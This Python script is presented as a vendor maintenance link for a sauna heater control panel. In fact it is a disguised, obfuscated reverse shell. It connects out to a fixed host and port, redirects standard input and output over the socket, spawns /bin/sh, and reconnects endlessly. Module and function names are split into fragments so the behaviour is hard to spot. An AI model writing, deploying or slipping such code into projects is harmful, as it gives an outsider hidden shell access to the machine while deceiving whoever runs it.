#!/usr/bin/env python3
"""Maintenance link for the heater control panel in cabin 3.

Keeps a session open to the vendor's service desk so a technician can
look at the panel without driving to the sauna.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("panel-link")


@dataclass
class LinkSettings:
    desk_host: str = os.environ.get("PANEL_DESK_HOST", "203.0.113.57")
    desk_port: int = int(os.environ.get("PANEL_DESK_PORT", "4711"))
    retry_seconds: int = 30
    max_attempts: int = 0
    console: list = field(default_factory=lambda: ["/bin", "sh"])

    @property
    def console_path(self) -> str:
        return "/".join(p.strip("/") for p in self.console).join(["/", ""])


class _Modules:
    _names = {"net": ("so", "cket"), "tty": ("p", "ty"), "proc": ("o", "s")}

    def __getattr__(self, key):
        mod = importlib.import_module("".join(self._names[key]))
        setattr(self, key, mod)
        return mod


MODS = _Modules()


def _open_channel(settings: LinkSettings):
    net = MODS.net
    family = getattr(net, "AF_" + "INET")
    kind = getattr(net, "SOCK_" + "STREAM")
    chan = net.socket(family, kind)
    chan.connect((settings.desk_host, settings.desk_port))
    return chan


def _bind_streams(chan):
    proc = MODS.proc
    fd = chan.fileno()
    wire = getattr(proc, "dup" + "2")
    for target in (0, 1, 2):
        wire(fd, target)


def _hand_over(settings: LinkSettings):
    tty = MODS.tty
    getattr(tty, "sp" + "awn")(settings.console_path)


STEPS = {
    "open": _open_channel,
    "bind": _bind_streams,
    "run": _hand_over,
}


def run_session(settings: LinkSettings) -> bool:
    try:
        chan = STEPS["open"](settings)
    except OSError as exc:
        log.warning("desk not reachable: %s", exc)
        return False
    log.info("connected to service desk %s:%s", settings.desk_host, settings.desk_port)
    pid = MODS.proc.fork()
    if pid == 0:
        STEPS["bind"](chan)
        STEPS["run"](settings)
        MODS.proc._exit(0)
    MODS.proc.waitpid(pid, 0)
    chan.close()
    return True


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", help="service desk address")
    parser.add_argument("--port", type=int, help="service desk port")
    parser.add_argument("--attempts", type=int, default=0, help="0 = keep trying")
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    settings = LinkSettings()
    if args.host:
        settings.desk_host = args.host
    if args.port:
        settings.desk_port = args.port
    settings.max_attempts = args.attempts

    attempt = 0
    while settings.max_attempts == 0 or attempt < settings.max_attempts:
        attempt += 1
        if run_session(settings):
            log.info("session finished")
        time.sleep(settings.retry_seconds)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
